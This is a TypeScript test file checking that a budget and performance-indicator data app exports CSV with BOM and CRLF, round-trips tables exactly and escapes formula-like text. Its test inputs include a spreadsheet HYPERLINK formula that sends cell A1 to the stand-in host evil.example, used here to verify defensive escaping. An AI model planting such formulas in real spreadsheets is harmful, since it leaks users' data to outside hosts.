import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { QueryEngine } from '@/engine/QueryEngine'
import { literal } from '@/engine/sql/quote'
import { exportCsv, EXPORT_KINDS, templateCsv } from '@/ingest/exportCsv'
import { FILE_KINDS, type FileKind } from '@/ingest/fileKinds'
import { loadDataset, singleFolder } from '@/ingest/loadDataset'
import { decodeFile, prepareUpload } from '@/ingest/upload'
import { noContext } from '@/ingest/validate'
import { readWorkbook, sheetToCsv } from '@/ingest/workbook'
import { workbookBytes } from '../ingest/excelBooks'
import { ENGINES } from '../../engines'
import { readDataFolder, SEED_SCOPE } from '../../support'

/** Text a clerk may type that Excel would run as a formula, or that CSV must quote. */
const NASTY = [
  '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
  '+1+1',
  '-1+2',
  '@SUM(1)',
  '\t缩进的说明',
  '\r回车开头',
  '带"引号"的说明',
  '逗号,分隔',
  '两行\n文字',
  '三行\r\n文字\r\n结束',
  "'=本来就有撇号",
  "''+两个撇号",
  '-',
  '-5',
  '=',
]

const TABLES = ['indicators', 'indicator_targets', 'projects', 'spending_plan', 'actuals', 'spending', 'indicator_links']

const NASTY_LIST = `[${NASTY.map(literal).join(', ')}]`
// Row by row through the list, so that every one of them is stored; `k` shifts the columns of one row apart.
const nastyAt = (k: number) => `list_extract(${NASTY_LIST}, ((rowid + ${k}) % ${NASTY.length})::INTEGER + 1)`
// A key gets the same prefix in every table that names it, so that the rows still refer to each other.
const renamed = (x: string) => `list_extract(${NASTY_LIST}, (hash(${x}) % ${NASTY.length})::INTEGER + 1) || ${x}`

/** Every text column of every exported table holds one of NASTY (keys prefixed by one), some numbers are negative
 * (where a negative number may be: 完成值, 支出, 上年值 — not 分值, 预算数 or 计划支出比例). */
const POISON = [
  `UPDATE indicators SET "group" = ${nastyAt(0)}, level1 = ${nastyAt(1)}, level2 = ${nastyAt(2)}, name = ${nastyAt(3)},
     basis = ${nastyAt(4)}, last_year = -3.25,
     history = -0.5, scope = CASE WHEN scope = '部门' THEN scope ELSE ${renamed('scope')} END, id = ${renamed('id')}`,
  `UPDATE indicator_targets SET id = ${renamed('id')}`,
  `UPDATE actuals SET note = ${nastyAt(0)}, value = -value, id = ${renamed('id')}`,
  `UPDATE indicator_links SET id = ${renamed('id')}, last_year_id = ${renamed('last_year_id')}`,
  `UPDATE projects SET name = ${nastyAt(0)}, department = ${nastyAt(1)}, unit_name = ${nastyAt(2)}, purpose = ${nastyAt(3)},
     goal = ${nastyAt(4)},
     adjusted_budget = 1.5, other = 0.25, code = ${renamed('code')}`,
  `UPDATE spending_plan SET code = ${renamed('code')}`,
  `UPDATE spending SET amount = -amount, code = ${renamed('code')}`,
]

describe.each(ENGINES)('全部导出 → load back on $name', ({ create }) => {
  let engine: QueryEngine
  beforeAll(async () => {
    engine = await create()
  })
  afterAll(() => engine.close())
  beforeEach(async () => {
    await loadDataset(engine, readDataFolder())
    for (const sql of POISON) await engine.exec(sql)
  })

  async function snapshot(): Promise<Record<string, unknown[]>> {
    const out: Record<string, unknown[]> = {}
    for (const t of TABLES) out[t] = await engine.query(`SELECT * FROM ${t} ORDER BY ALL`)
    return out
  }
  async function exportAll(): Promise<Partial<Record<FileKind, Uint8Array>>> {
    const files: Partial<Record<FileKind, Uint8Array>> = {}
    for (const kind of EXPORT_KINDS) files[kind] = await exportCsv(engine, kind)
    return files
  }

  it('gives identical tables for text beginning =, +, -, @, a tab or a CR, quotes, commas, line breaks and negative numbers', async () => {
    const before = await snapshot()
    const notes = (await engine.query<{ note: string }>('SELECT DISTINCT note FROM actuals')).map((r) => r.note)
    expect(notes.sort()).toEqual([...NASTY].sort())
    await loadDataset(engine, singleFolder(await exportAll()))
    expect(await snapshot()).toEqual(before)
  })

  it('writes UTF-8 with BOM and CRLF, the formula-like text escaped and the negative numbers as they are', async () => {
    const files = await exportAll()
    const bytes = files.actuals as Uint8Array
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder().decode(bytes)
    expect(text.startsWith('指标编码,月份,完成值,单位,数据口径,完成情况,说明,年度,预算单位\r\n')).toBe(true)
    expect(text.endsWith('\r\n')).toBe(true)
    expect(text.replace(/"[^"]*"/g, '').replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点击查看"")"`)
    expect(text).toContain(`"'+1+1"`)
    expect(text).toContain(`"'-1+2"`)
    expect(text).toContain(`"'@SUM(1)"`)
    expect(text).toContain(`"'\t缩进的说明"`)
    expect(text).toContain(`"'\r回车开头"`)
    expect(text).toContain(`"''=本来就有撇号"`)
    expect(text).toContain(`"'''+两个撇号"`)
    expect(text).toContain(`"带""引号""的说明"`)
    expect(text).toContain(`"逗号,分隔"`)
    expect(text).toContain(`"两行\n文字"`)
    // a number, and a negative number written as text, are never escaped
    expect(text).toMatch(/,2024-\d\d,-\d+(\.\d+)?,/)
    expect(text).toMatch(/,-5,\d{4},806001\r\n/)
    expect(text).not.toContain(`"'-5"`)
  })
})

describe('templates', () => {
  it('are written by the one writer: BOM, CRLF, and recognised as their kind', async () => {
    const [{ create }] = ENGINES as [(typeof ENGINES)[number]]
    const engine = await create()
    try {
      await loadDataset(engine, readDataFolder())
      for (const kind of Object.keys(FILE_KINDS) as FileKind[]) {
        const bytes = templateCsv(kind)
        expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
        expect(new TextDecoder().decode(bytes).split('\r\n')).toHaveLength(3)
        const upload = await prepareUpload(engine, await decodeFile(`${kind}.csv`, bytes), noContext(SEED_SCOPE))
        expect(upload.spec?.kind).toBe(kind)
      }
    } finally {
      await engine.close()
    }
  })
})

describe('an Excel workbook’s text', () => {
  it('is stored as typed, an apostrophe before = included: the import removes only the escaping the app adds', async () => {
    const [{ create }] = ENGINES as [(typeof ENGINES)[number]]
    const engine = await create()
    try {
      await loadDataset(engine, readDataFolder())
      const bytes = await workbookBytes((wb) => {
        const ws = wb.addWorksheet('完成值')
        ws.addRows([['指标编码', '月份', '完成值', '说明'], ['D01', '2024-11', -5, "'=1+1"], ['D02', '2024-11', 7, '=1+1']])
      })
      const table = (await readWorkbook(bytes)).tables[0]!
      const upload = await prepareUpload(engine, await decodeFile('完成值.csv', new TextEncoder().encode(sheetToCsv(table))), noContext(SEED_SCOPE))
      expect(await engine.query(`SELECT id, value, note FROM ${upload.canon} ORDER BY id`)).toEqual([
        { id: 'D01', value: -5, note: "'=1+1" },
        { id: 'D02', value: 7, note: '=1+1' },
      ])
    } finally {
      await engine.close()
    }
  })
})
